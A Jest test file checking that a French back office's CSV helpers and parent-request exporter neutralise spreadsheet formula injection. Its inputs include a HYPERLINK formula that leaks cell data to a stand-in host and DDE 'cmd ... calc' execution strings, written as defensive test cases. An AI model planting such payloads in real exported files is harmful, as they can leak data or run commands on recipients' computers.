import { downloadCSV, type DataProvider } from 'react-admin';
import { parentExporter } from '../resources/parents/parentExporter';
import type { ParentRequest } from '../resources/parents/ParentRequestFields';
import { csvCell, frenchCsv } from './csv';

jest.mock('react-admin', () => ({ downloadCSV: jest.fn() }));

describe('CSV cells (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1;"clic")', `"'=HYPERLINK(""http://x.example/?""&A1;""clic"")"`],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+9)*cmd|\' /C calc\'!A0', "'@SUM(1+9)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['=1;2', `"'=1;2"`],
  ])('writes %j as text that no spreadsheet runs: %s', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each([
    ['Dupont', 'Dupont'],
    ['06 12 34 56 78', '06 12 34 56 78'],
    ['a=b, c+d', 'a=b, c+d'],
    ["l'atelier", "l'atelier"],
    ['dit "bonjour"', '"dit ""bonjour"""'],
    ['deux\nlignes', '"deux\nlignes"'],
    [null, ''],
    [undefined, ''],
    [7, '7'],
    [-12.5, '-12.5'],
  ])('leaves %j as it is, quoted only where CSV needs it: %s', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('neutralises headers and every column of every line', () => {
    const csv = frenchCsv([{ a: '=1', b: 2 }, { a: 'x', b: -3 }], [
      ['@entête', (r) => r.a],
      ['Nombre', (r) => r.b],
    ]);
    expect(csv).toBe("'@entête;Nombre\r\n'=1;2\r\nx;-3");
  });

  it("neutralises what a parent typed, in the back office's parent export", () => {
    parentExporter(
      [
        {
          id: '1',
          createdAt: '2026-11-20T10:00:00.000Z',
          parent_lastname: '=cmd|\' /C calc\'!A0',
          parent_firstname: 'Anne',
          parent_email: 'anne@exemple.fr',
          parent_phone: '+33 6 12 34 56 78',
          child_firstname: '@Léo',
          child_age: 7,
          number_of_children: 8,
          desired_date: '2026-12-12',
          target_address: '-1+1',
          target_city_id: null,
          merchant_type: 'boulangerie',
          status: 'new',
          isPaymentAuthorized: true,
          admin_notes: null,
        } as unknown as ParentRequest,
      ],
      jest.fn(),
      {} as DataProvider,
      'parents',
    );
    const [csv, filename] = (downloadCSV as jest.Mock).mock.calls[0] as [string, string];
    expect(filename).toBe('demandes-parents');
    const cells = csv.split('\r\n')[1].split(';');
    expect(cells).toEqual(expect.arrayContaining(["'=cmd|' /C calc'!A0", "'+33 6 12 34 56 78", "'@Léo", "'-1+1", '7', '8']));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
